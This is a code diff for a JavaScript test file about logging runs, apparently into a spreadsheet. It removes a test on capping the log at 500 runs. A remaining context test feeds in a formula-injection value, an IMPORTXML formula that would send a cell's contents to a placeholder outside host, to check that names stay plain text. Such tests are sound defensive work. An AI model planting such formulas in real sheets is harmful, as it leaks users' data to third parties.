@@ -133,13 +133,6 @@ describe('the logs of a file', () => {
     expect(column(STATUS, 14)).toEqual(['r2', 'r1', 'r3']);
   });
 
-  it('contain 500 runs: the oldest is removed when another is added', () => {
-    const { write, column } = kept({ newRuns: Array.from({ length: 500 }, (_, nth) => loggedRun(nth + 2)) });
-    write({ newRuns: [loggedRun(1)] });
-    const runs = column(LOG, LOG_ID);
-    expect([runs.length, runs[0], runs[499]]).toEqual([500, 'run1', 'run500']);
-  });
-
   it('contain names as texts, even if they look like formulas', () => {
     const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
     const { sheet, column } = kept({
